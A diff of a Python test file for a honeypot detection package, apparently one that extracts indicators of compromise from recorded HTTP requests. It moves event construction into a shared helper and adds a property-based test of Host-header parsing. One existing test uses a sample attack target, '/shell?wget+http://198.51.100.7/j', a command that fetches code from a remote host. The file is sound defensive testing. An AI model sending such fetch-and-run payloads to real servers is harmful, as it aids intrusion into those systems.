@@ -5,7 +5,6 @@ on requests as the sensor records them, folded, escaped or CR-ridden headers inc
 from __future__ import annotations
 
 import sys
-from datetime import UTC, datetime
 
 import pytest
 from hypothesis import HealthCheck, given, settings
@@ -14,7 +13,8 @@ from hypothesis import strategies as st
 from honeyguard.detect import raw_http_subject
 from honeyguard.detect.fields import HttpSubject, Subject, event_subject, looks_like_payload
 from honeyguard.detect.iocs import subjects_iocs
-from honeyguard.model import Event, HttpRequest
+from honeyguard.model import HttpRequest
+from tests.detect._support import http_event
 
 package = sys.modules["honeyguard.detect.iocs"]
 
@@ -65,20 +65,7 @@ def _raw(target: bytes, headers: list[tuple[bytes, bytes]]) -> bytes:
 
 def _recorded(target: bytes, headers: list[tuple[bytes, bytes]]) -> Subject:
     text = [(n.decode("latin-1"), v.decode("latin-1")) for n, v in headers]
-    body = HttpRequest(method="GET", target=target.decode("latin-1"), version="HTTP/1.1", headers=text)
-    event = Event(
-        id="0190d3f0-0000-7000-8000-000000000001",
-        ts=datetime(2026, 1, 1, tzinfo=UTC),
-        sensor="s",
-        location="l",
-        session="x",
-        kind="http.request",
-        src_ip="198.51.100.1",
-        src_port=40000,
-        dst_port=80,
-        protocol="http",
-        body=body,
-    )
+    event = http_event(HttpRequest(method="GET", target=target.decode("latin-1"), version="HTTP/1.1", headers=text))
     subject = event_subject(event)
     assert subject is not None
     return subject
@@ -126,3 +113,20 @@ def test_a_payload_in_a_header_is_still_found() -> None:
     assert package._what_to_extract(raw_http_subject(encoded)) is True  # (a '%': the values are built)
     plain = _raw(b"/shell?wget+http://198.51.100.7/j", [(b"User-Agent", b"Mozilla/5.0")])
     assert package._what_to_extract(raw_http_subject(plain)) is False
+
+
+_host_value = st.sampled_from([b"", b" ", b"\t", b"a", b" victim.example ", b"198.51.100.7:8080", b"[::1]:80"])
+_host_name = st.sampled_from([b"Host", b"host", b"HOST", b"Hosts", b"X-Host", b"Ho\nst"])
+
+
+@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
+@given(_target, st.lists(st.one_of(st.tuples(_host_name, _host_value), st.tuples(_name, _value)), max_size=5))
+def test_the_own_host_is_found_without_building_the_header_fields(
+    target: bytes, headers: list[tuple[bytes, bytes]]
+) -> None:
+    # what extraction leaves out (first_host) is what the header fields say the Host is, repeated
+    # or blank Hosts included, asked before the fields exist and after
+    for subject in _subjects(target, headers):
+        assert isinstance(subject, HttpSubject)
+        early = subject.first_host()
+        assert early == subject.host == subject.first_host()
